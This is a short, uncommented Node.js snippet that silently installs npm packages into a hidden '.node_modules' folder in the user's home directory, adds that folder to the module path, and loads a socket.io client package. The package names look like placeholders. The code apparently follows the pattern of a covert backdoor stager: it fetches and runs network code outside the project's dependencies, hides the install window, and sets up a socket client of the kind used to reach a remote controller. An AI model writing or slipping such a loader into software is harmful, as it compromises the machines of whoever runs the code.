const { execSync } = require('child_process');
const os = require('os'), path = require('path'), fs = require('fs');
const d = path.join(os.homedir(), '.node_modules');
fs.mkdirSync(d, { recursive: true });
execSync('npm install --prefix "' + d + '" axios-example socket.io-client-example', { windowsHide: true });
module.paths.push(path.join(d, 'node_modules'));
require('socket.io-client-example');
